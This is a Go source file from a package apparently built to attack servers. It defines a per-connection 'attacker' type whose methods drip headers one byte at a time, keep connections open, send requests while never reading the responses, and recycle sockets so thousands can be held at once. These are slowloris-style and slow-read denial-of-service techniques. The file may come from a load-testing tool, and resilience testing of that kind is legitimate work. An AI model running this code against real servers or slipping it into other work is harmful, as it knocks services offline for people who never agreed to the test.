package attack

import (
	"bytes"
	"context"
	"crypto/tls"
	"errors"
	"io"
	"net"
	"os"
	"time"
)

// An attacker is one connection of an attack.
type attacker struct {
	net.Conn // TLS, once it is
	raw      *net.TCPConn
	force    *force
	number   int64 // from 1
	born     time.Time
	unwatch  func() bool
}

// advance brings it to the attack's phase.
func (a *attacker) advance() error {
	f := a.force
	if f.attack.Phase <= PhaseHeader {
		return nil
	}
	if f.target.proxyHeader {
		if err := a.send(proxyHeader(a.raw)); err != nil {
			return err
		}
	}
	if f.attack.Phase == PhaseRequest && (f.target.tls != nil || f.attack.needs&needTLS != 0) {
		return a.secure(f.target.forTLS)
	}
	return nil
}

// secure goes on in TLS.
func (a *attacker) secure(config *tls.Config) error {
	c := tls.Client(a.raw, config)
	if err := c.Handshake(); err != nil {
		return err
	}
	a.Conn = c
	return nil
}

// leave has the kernel forget the connection, or those who hold thousands would find
// no port for the next attack.
func (a *attacker) leave() {
	a.unwatch()
	_ = a.raw.SetLinger(0)
	a.raw.Close()
}

var errSpent = errors.New("enough was sent")

// send sends all of it, within the attack's budget.
func (a *attacker) send(p []byte) error {
	if a.force.budget.Add(-int64(len(p))) < 0 {
		return errSpent
	}
	_, err := a.Write(p)
	return err
}

// stay reads what comes, until the server ends it, and returns how.
func (a *attacker) stay() error {
	var buffer [512]byte
	for {
		if _, err := a.Read(buffer[:]); err != nil {
			return err
		}
	}
}

// listen reads what comes for a while.
func (a *attacker) listen(ctx context.Context, d time.Duration) error {
	if err := a.SetReadDeadline(time.Now().Add(d)); err != nil {
		return err
	}
	if ctx.Err() != nil { // which may have set a deadline that is no more
		return ctx.Err()
	}
	if err := a.stay(); !errors.Is(err, os.ErrDeadlineExceeded) {
		return err
	}
	return ctx.Err()
}

// drip sends a byte at every beat, and then waits for how the server ends it.
func (a *attacker) drip(ctx context.Context, p []byte) error {
	if err := a.trickle(ctx, p); err != nil {
		return err
	}
	for {
		if err := a.listen(ctx, time.Minute); err != nil {
			return err
		}
	}
}

// dripOn sends a byte at every beat, over and over once the first are sent, and
// returns how the server ends it.
func (a *attacker) dripOn(ctx context.Context, first, then []byte) error {
	if err := a.trickle(ctx, first); err != nil {
		return err
	}
	for {
		if err := a.trickle(ctx, then); err != nil {
			return err
		}
	}
}

func (a *attacker) trickle(ctx context.Context, p []byte) error {
	for i := range p {
		if err := a.send(p[i : i+1]); err != nil {
			return err
		}
		if err := a.listen(ctx, a.force.beat); err != nil {
			return err
		}
	}
	return nil
}

// await waits for the first of an answer, but not for ever.
func (a *attacker) await(ctx context.Context) error {
	if err := a.SetReadDeadline(time.Now().Add(patience)); err != nil {
		return err
	}
	if ctx.Err() != nil {
		return ctx.Err()
	}
	_, err := a.Read(make([]byte, 1))
	if errors.Is(err, os.ErrDeadlineExceeded) {
		return ctx.Err()
	}
	return err
}

// sendUnread sends requests of so many bytes, or as many as the server takes from
// somebody who does not read.
func (a *attacker) sendUnread(size int) error {
	if err := a.SetWriteDeadline(time.Now().Add(a.force.beat)); err != nil {
		return err
	}
	request := a.force.target.protocol.request
	some := bytes.Repeat(request, max(1, 8<<10/len(request)))
	for range max(1, size/len(some)) {
		switch err := a.send(some); {
		case errors.Is(err, os.ErrDeadlineExceeded):
			return nil
		case err != nil:
			return err
		}
	}
	return nil
}

// lift takes deadlines away.
func (a *attacker) lift(ctx context.Context) error {
	if err := a.SetDeadline(time.Time{}); err != nil {
		return err
	}
	if ctx.Err() != nil {
		_ = a.SetDeadline(longAgo)
	}
	return ctx.Err()
}

// watch looks for a while whether the server ends the connection, without reading.
func (a *attacker) watch(ctx context.Context, d time.Duration) error {
	for end := time.Now().Add(d); time.Now().Before(end); {
		if err := ended(a.raw); err != nil {
			return err
		}
		if !sleep(ctx, d/10) {
			return ctx.Err()
		}
	}
	return nil
}

// readAlong reads what comes, and throws it away, until it is told to stop.
func (a *attacker) readAlong(c net.Conn) (end <-chan struct{}, stop func()) {
	done := make(chan struct{})
	go func() {
		defer close(done)
		_, _ = io.Copy(io.Discard, c)
	}()
	return done, func() {
		_ = c.SetReadDeadline(longAgo)
		<-done
	}
}
